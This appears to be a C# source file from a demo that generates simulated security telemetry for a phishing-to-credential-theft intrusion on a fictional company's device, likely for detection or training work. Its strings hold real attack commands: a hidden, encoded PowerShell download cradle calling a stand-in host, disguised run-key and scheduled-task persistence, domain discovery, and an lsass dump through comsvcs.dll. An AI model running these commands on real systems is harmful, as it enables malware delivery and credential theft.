using System.Text;
using Drever.Ingest.Demo.World;

namespace Drever.Ingest.Demo.Intrusion;

/// <summary>Acts two to five, on the machine of the one who clicked.</summary>
internal sealed class Foothold
{
    public const string Document = "Invoice_48213.docm";
    public const string RunValue = "SyncUpdate";
    public const string TaskName = @"\Microsoft\Windows\UpdateAssistant\SyncCheck";
    public const string Dump = @"C:\Windows\Temp\d.dmp";

    private static readonly string Script = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.sync-assets.example/a.ps1')";

    private readonly DeviceActivity _activity;
    private readonly DemoOutput _output;
    private readonly Company _company;
    private readonly Timeline _time;
    private readonly RunningProcess _edge;
    private readonly RunningProcess _explorer;
    private RunningProcess _loader;

    public Foothold(DemoOutput output, Company company, Timeline time)
    {
        (_output, _company, _time) = (output, company, time);
        _activity = new DeviceActivity(output, company.VictimDevice);
        _explorer = new RunningProcess(Programs.Explorer, 5120, @"C:\Windows\Explorer.EXE", time.MailSent.Date.AddHours(6.9), company.Victim, null) { LogonId = 7_204_113 };
        _edge = new RunningProcess(Programs.Edge, 9344, $"\"{Programs.Edge.Path}\" {PhishingMail.Url}", time.Click.AddSeconds(-1), company.Victim, _explorer) { LogonId = 7_204_113 };
        _loader = _edge;
    }

    public static string DocumentHash { get; } = new DemoProgram(Document, "", "", "", "1", "").Sha256;

    public static string EncodedScript { get; } = Convert.ToBase64String(Encoding.Unicode.GetBytes(Script));

    private string Downloads => $@"C:\Users\{_company.Victim.Name}\Downloads";

    /// <summary>The page, the document, its macro, the loader.</summary>
    public void Enter()
    {
        _activity.Event(_edge, _time.Click.AddSeconds(1), "BrowserLaunchedToOpenUrl").Set("RemoteUrl", PhishingMail.Url);
        _activity.Connect(_edge, _time.Click.AddSeconds(2), Site.Phishing);
        _activity.File(_edge, _time.Click.AddSeconds(41), "FileCreated", Downloads, Document, DocumentHash, $"https://{Site.Phishing.Host}/dl/{Document}", Site.Phishing.Ip);

        var word = _activity.Run(_explorer, Programs.Word, $"\"{Programs.Word.Path}\" /n \"{Downloads}\\{Document}\" /o \"\"", _time.Macro);
        _activity.Load(word, _time.Macro.AddSeconds(2), Programs.Library("wininet.dll"));
        var script = _activity.Run(word, Programs.PowerShell, $"powershell.exe -nop -w hidden -enc {EncodedScript}", _time.Macro.AddSeconds(9));
        _activity.Touch(word, _time.Macro.AddSeconds(9), "AsrOfficeChildProcessAudited", script, """{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}""");
        _activity.Run(script, Programs.Conhost, @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", _time.Macro.AddSeconds(9.1));
        _activity.Load(script, _time.Macro.AddSeconds(10), Programs.Library("clr.dll"));
        _activity.Event(script, _time.Macro.AddSeconds(11), "AmsiScriptContent", $$"""{"Description":"{{Script}}","ContentSize":{{Script.Length}}}""");
        _activity.Event(script, _time.Macro.AddSeconds(11.5), "PowerShellCommand", """{"Command":"New-Object"}""");
        _activity.Event(script, _time.Macro.AddSeconds(12), "DnsQueryResponse", $$"""{"DnsQueryString":"{{Site.Control.Host}}","DnsQueryResult":[{"Result":"{{Site.Control.Ip}}","DnsQueryType":"A"}]}""");
        _activity.Connect(script, _time.Macro.AddSeconds(12.4), Site.Control);
        _activity.Drop(script, _time.Macro.AddSeconds(31), Programs.Loader, $"https://{Site.Control.Host}/svcupd.bin", Site.Control.Ip);
        _loader = _activity.Run(script, Programs.Loader, $"\"{Programs.Loader.Path}\" -k netsvcs", _time.Macro.AddSeconds(37));
        _activity.Load(_loader, _time.Macro.AddSeconds(38), Programs.Library("winhttp.dll"));
        _activity.Start("DeviceFileCertificateInfo", _time.Macro.AddSeconds(50), null).Set("SHA1", Programs.Loader.Sha1).Set("IsSigned", false).Set("IsTrusted", false);
    }

    /// <summary>A run key and a scheduled task.</summary>
    public void Stay()
    {
        var key = $@"HKEY_CURRENT_USER\{_company.Victim.Sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run";
        var shell = _activity.Run(_loader, Programs.Cmd, $"cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {RunValue} /t REG_SZ /d \"{Programs.Loader.Path}\" /f", _time.Persistence);
        var reg = _activity.Run(shell, Programs.Reg, $"reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {RunValue} /t REG_SZ /d \"{Programs.Loader.Path}\" /f", _time.Persistence.AddSeconds(0.2));
        _activity.Registry(reg, _time.Persistence.AddSeconds(0.3), key, RunValue, Programs.Loader.Path);
        var task = _activity.Run(_loader, Programs.Schtasks, $"schtasks.exe /create /tn \"{TaskName}\" /tr \"{Programs.Loader.Path} -k netsvcs\" /sc hourly /f", _time.Persistence.AddSeconds(14));
        _activity.Event(task, _time.Persistence.AddSeconds(14.4), "ScheduledTaskCreated", $$$"""{"TaskName":"{{{TaskName.Replace(@"\", @"\\", StringComparison.Ordinal)}}}","TaskContent":"<Exec><Command>{{{Programs.Loader.Path.Replace(@"\", @"\\", StringComparison.Ordinal)}}}</Command></Exec>"}""");
    }

    /// <summary>Who am I, who rules here, where is what.</summary>
    public void LookAround()
    {
        var commands = new (DemoProgram Program, string Line)[]
        {
            (Programs.Whoami, "whoami  /all"), (Programs.Ipconfig, "ipconfig  /all"), (Programs.Systeminfo, "systeminfo"), (Programs.Net, "net  group \"Domain Admins\" /domain"), (Programs.Net, "net  view \\\\tb-file-01"),
            (Programs.Nltest, "nltest  /domain_trusts"), (Programs.Net, "net  localgroup administrators"), (Programs.Wmic, "wmic  /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName"),
        };
        for (var i = 0; i < commands.Length; i++)
        {
            var at = _time.Discovery.AddSeconds(17 * i);
            _activity.Run(_activity.Run(_loader, Programs.Cmd, $"cmd.exe /c {commands[i].Line}", at), commands[i].Program, commands[i].Line, at.AddSeconds(0.2));
        }

        var random = DemoRandom.For(_company.Options.Seed, "discovery");
        IdentityRows.Query(_output, _time.Discovery.AddSeconds(52), _company.Victim, _company.VictimDevice, _company.DomainController, "SAMR", "EnumerateGroups", "Domain Admins", random);
        IdentityRows.Query(_output, _time.Discovery.AddSeconds(180), _company.Victim, _company.VictimDevice, _company.DomainController, "LDAP", "(&(objectCategory=person)(servicePrincipalName=*))", "user", random);
        IdentityRows.Query(_output, _time.Discovery.AddSeconds(184), _company.Victim, _company.VictimDevice, _company.DomainController, "LDAP", "(objectClass=computer)", "computer", random);
        _activity.Event(_loader, _time.Discovery.AddSeconds(180), "LdapSearch", """{"SearchFilter":"(&(objectCategory=person)(servicePrincipalName=*))","DistinguishedName":"DC=tallbacka,DC=example","ScopeOfSearch":"SubTree"}""");
    }

    /// <summary>The memory of lsass, with what Windows itself brings.</summary>
    public void StealCredentials()
    {
        var lsass = RunningProcess.Service(Programs.Lsass, 812, "lsass.exe", _time.MailSent.Date, Account.System);
        var elevated = _loader with { Integrity = "High", Elevation = "TokenElevationTypeFull" };
        var dumper = _activity.Run(elevated, Programs.Rundll32, @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 812 C:\Windows\Temp\d.dmp full", _time.CredentialDump, isElevated: true);
        _activity.Load(dumper, _time.CredentialDump.AddSeconds(0.1), Programs.Library("comsvcs.dll"));
        _activity.Load(dumper, _time.CredentialDump.AddSeconds(0.2), Programs.Library("dbghelp.dll"));
        _activity.Touch(dumper, _time.CredentialDump.AddSeconds(0.4), "OpenProcessApiCall", lsass, """{"DesiredAccess":5242881}""");
        _activity.Touch(dumper, _time.CredentialDump.AddSeconds(0.6), "ReadProcessMemoryApiCall", lsass, """{"TotalBytesCopied":58261504}""");
        _activity.File(dumper, _time.CredentialDump.AddSeconds(2), "FileCreated", @"C:\Windows\Temp", "d.dmp", new DemoProgram("d.dmp", "", "", "", "1", "").Sha256);
        _activity.File(_loader, _time.CredentialDump.AddMinutes(6), "FileDeleted", @"C:\Windows\Temp", "d.dmp");
    }

    /// <summary>The loader calls home every ten minutes or so, until it is found.</summary>
    public void Report()
    {
        var random = DemoRandom.For(_company.Options.Seed, "beacon");
        for (var at = _time.Macro.AddMinutes(1); at < _time.Response; at = at.AddSeconds(600 + random.Between(-45, 45)))
            _activity.Connect(_loader, at, Site.Control);
    }
}
